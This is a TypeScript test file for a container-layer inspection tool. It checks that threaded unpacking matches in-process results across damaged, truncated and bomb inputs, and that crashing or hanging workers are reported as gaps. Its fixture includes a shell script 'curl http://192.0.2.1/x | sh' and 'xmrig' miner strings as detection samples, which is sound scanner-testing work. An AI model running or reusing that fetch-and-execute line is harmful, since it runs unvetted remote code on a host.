import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as pause } from 'node:timers/promises';
import { pathToFileURL } from 'node:url';
import { gzipSync, zstdCompressSync } from 'node:zlib';
import { afterAll, describe, expect, it } from 'vitest';
import type { ByteStream } from '../archive/bytes.ts';
import { defaultLimits } from '../archive/limits.ts';
import type { Layer } from '../image/image.ts';
import type { DiffId, Digest } from '../oci/digest.ts';
import { buildLayer } from '../testing/image-builder.ts';
import { writeTar } from '../testing/tar-writer.ts';
import { inspectLayer, type LayerInspection } from './layer.ts';
import { createUnpackThreads, type UnpackThreads } from './unpack-threads.ts';

const threads = createUnpackThreads(2);
const folder = mkdtempSync(join(tmpdir(), 'tidewaiter-threads-'));
const pools: UnpackThreads[] = [threads];
afterAll(async () => {
  await Promise.all(pools.map((pool) => pool.close()));
  rmSync(folder, { recursive: true });
});

const script = '#!/bin/sh\ncurl http://192.0.2.1/x | sh\n';
const noise = Buffer.from(Array.from({ length: 300_000 }, (_, index) => (index * 7919 * (index >> 3)) & 0xff));
const tar = Buffer.from(
  writeTar([
    { path: 'opt/run', content: script, mode: 0o755 },
    { path: 'opt/.wh.gone' },
    { path: 'opt/noise', content: noise },
    { path: 'opt/zeros', content: Buffer.alloc(3_000_000) },
    ...Array.from({ length: 400 }, (_, index) => ({ path: `srv/${index}`, content: `${index} xmrig`.repeat(index) })),
  ]),
);
const gzip = 'application/vnd.oci.image.layer.v1.tar+gzip';
const plain = 'application/vnd.oci.image.layer.v1.tar';

function layerOf(bytes: Uint8Array, change: Partial<Layer> = {}, chunk = 100_000): Layer {
  const built = buildLayer(tar);
  return {
    ...{ index: 0, mediaType: gzip, foreign: false, diffId: built.diffId },
    open: () => pieces(bytes, chunk),
    ...change,
  };
}

async function* pieces(bytes: Uint8Array, length: number): ByteStream {
  for (let at = 0; at < bytes.length; at += length) yield bytes.subarray(at, at + length);
}

async function inspected(layer: Layer, pool?: UnpackThreads, signal?: AbortSignal): Promise<LayerInspection> {
  return await inspectLayer(layer, {
    analyzers: [],
    limits: defaultLimits,
    ...(pool === undefined ? {} : { unpack: pool.unpack }),
    ...(signal === undefined ? {} : { signal }),
  });
}

/** Everything an inspection says, as lines: short where they differ. */
function said({ facts, kept, hinted }: LayerInspection): string[] {
  const { files, ...rest } = facts;
  const texts = [...kept].map(([at, bytes]) => [at, createHash('sha256').update(bytes).digest('hex')]);
  return [JSON.stringify(rest), JSON.stringify([texts, hinted]), ...files.map((file) => JSON.stringify(file))];
}

/** A pool whose threads run this text instead of unpacking. */
function strange(program: string, silence = 300): UnpackThreads {
  const path = join(folder, `${pools.length}.mjs`);
  writeFileSync(path, `import { parentPort } from 'node:worker_threads';\n${program}\n`);
  const pool = createUnpackThreads(1, { program: pathToFileURL(path), silence });
  pools.push(pool);
  return pool;
}

const damaged = Buffer.from(gzipSync(tar)).fill(0xff, 5000, 5040);
const cut = gzipSync(tar).subarray(0, 40_000);
const failing = async function* (): ByteStream {
  yield gzipSync(tar).subarray(0, 40_000);
  throw new Error('the network is gone');
};
const wrong = `sha256:${'0'.repeat(64)}`;

describe('a thread gives what this one gives', () => {
  it.each<[string, Layer]>([
    ['gzip', layerOf(gzipSync(tar))],
    ['in one chunk', layerOf(gzipSync(tar), {}, 1 << 30)],
    ['in tiny chunks', layerOf(gzipSync(tar), {}, 977)],
    ['zstd behind a promise of gzip', layerOf(zstdCompressSync(tar))],
    ['not packed', layerOf(tar, { mediaType: plain }, 777_777)],
    ['empty', layerOf(Buffer.alloc(0))],
    ['a web page', layerOf(Buffer.from('<html>'))],
    ['damaged', layerOf(damaged)],
    ['cut short', layerOf(cut)],
    ['cut tar', layerOf(gzipSync(tar.subarray(0, 100_000)))],
    ['bytes behind the end', layerOf(Buffer.concat([gzipSync(tar), Buffer.from('more')]))],
    ['many members', layerOf(Buffer.concat([gzipSync(tar.subarray(0, 5000)), gzipSync(tar.subarray(5000))]))],
    ['another digest', layerOf(gzipSync(tar), { digest: wrong as Digest })],
    ['another size', layerOf(gzipSync(tar), { size: 10 })],
    ['another diffId', layerOf(gzipSync(tar), { diffId: wrong as DiffId })],
    ['a source that fails', layerOf(tar, { open: failing })],
    ['a bomb', layerOf(gzipSync(Buffer.alloc(300 << 20)))],
  ])('%s', async (_, layer) => {
    const [here, there] = [await inspected(layer), await inspected(layer, threads)];
    expect(said(there)).toEqual(said(here));
    // A thread that has seen an error is as good as new.
    const good = layerOf(gzipSync(tar));
    expect(said(await inspected(good, threads))).toEqual(said(await inspected(good)));
  });

  it('several layers at once', async () => {
    const layers = Array.from({ length: 6 }, (_, index) => layerOf(gzipSync(tar, { level: 1 + index }), { index }));
    const there = await Promise.all(layers.map((layer) => inspected(layer, threads)));
    const here = await Promise.all(layers.map((layer) => inspected(layer)));
    expect(there.map(said)).toEqual(here.map(said));
  });

  it('the stored bytes are only as far ahead as there is room', async () => {
    let given = 0;
    const source = async function* (): ByteStream {
      for await (const chunk of pieces(gzipSync(Buffer.concat([tar, noise, tar, noise, tar]), { level: 0 }), 65_536)) {
        given += chunk.length;
        yield chunk;
      }
    };
    const job = { what: 'layer 1', limits: defaultLimits };
    const watch = { onStored() {}, onMismatch() {}, onEnd() {} };
    for await (const _chunk of threads.unpack(source(), job, watch)) {
      await pause(100);
      break;
    }
    expect(given).toBeLessThan(4 << 20);
    expect(given).toBeGreaterThan(0);
  });
});

describe('a thread that fails leaves a gap', () => {
  it('killed before it answers', async () => {
    const { facts } = await inspected(
      layerOf(gzipSync(tar)),
      strange(`parentPort.on('message', () => process.exit(9));`),
    );
    expect(facts.gaps).toEqual([expect.objectContaining({ reason: 'unreadable' })]);
    expect(facts.gaps[0]?.detail).toContain('ended too early');
  });

  it('breaks', async () => {
    const { facts } = await inspected(
      layerOf(gzipSync(tar)),
      strange(`parentPort.on('message', () => { throw new Error('odd'); });`),
    );
    expect(facts.gaps[0]?.detail).toContain('broke: odd');
  });

  it('cannot be started', async () => {
    const { facts } = await inspected(layerOf(gzipSync(tar)), strange(`this is no program`));
    expect(facts.gaps).toHaveLength(1);
  });

  it('runs in circles', async () => {
    const { facts } = await inspected(
      layerOf(gzipSync(tar)),
      strange(`parentPort.on('message', () => { for (;;); });`),
    );
    expect(facts.gaps).toEqual([expect.objectContaining({ reason: 'timeout', code: 'TIMEOUT' })]);
  });

  it('takes too much memory', async () => {
    const greedy = `parentPort.on('message', () => { const all = []; for (let i = 0; ; i++) all.push({ i, text: 'x' + i }); });`;
    const { facts } = await inspected(layerOf(gzipSync(tar)), strange(greedy, 10_000));
    expect(facts.gaps).toHaveLength(1);
    expect(facts.gaps[0]?.detail).toMatch(/memory|stood still/i);
  }, 30_000);

  it('is ended while it works, and the next layer gets a new one', async () => {
    const pool = createUnpackThreads(1);
    pools.push(pool);
    const slow = async function* (): ByteStream {
      for await (const chunk of pieces(gzipSync(tar), 2000)) {
        await pause(2);
        yield chunk;
      }
    };
    const reading = inspected(layerOf(tar, { open: slow }), pool);
    await pause(60);
    await pool.close();
    expect((await reading).facts.gaps).toHaveLength(1);
    expect((await inspected(layerOf(gzipSync(tar)), pool)).facts.gaps).toEqual([]);
  });

  it('waits for a slow source as long as it takes', async () => {
    const pool = createUnpackThreads(1, { silence: 1500 });
    pools.push(pool);
    const slow = async function* (): ByteStream {
      const bytes = gzipSync(tar);
      yield bytes.subarray(0, 1000);
      await pause(4000);
      yield bytes.subarray(1000);
    };
    expect((await inspected(layerOf(tar, { open: slow }), pool)).facts.gaps).toEqual([]);
  }, 15_000);
});

it('stops when asked to, also while the source keeps silent', async () => {
  const silent = async function* (): ByteStream {
    yield gzipSync(tar).subarray(0, 1000);
    await pause(60_000, undefined, { ref: false });
  };
  const started = performance.now();
  const { facts } = await inspected(layerOf(tar, { open: silent }), threads, AbortSignal.timeout(100));
  expect(facts.gaps).toEqual([expect.objectContaining({ reason: 'timeout' })]);
  expect(performance.now() - started).toBeLessThan(5000);
  const good = layerOf(gzipSync(tar));
  expect(said(await inspected(good, threads))).toEqual(said(await inspected(good)));
});
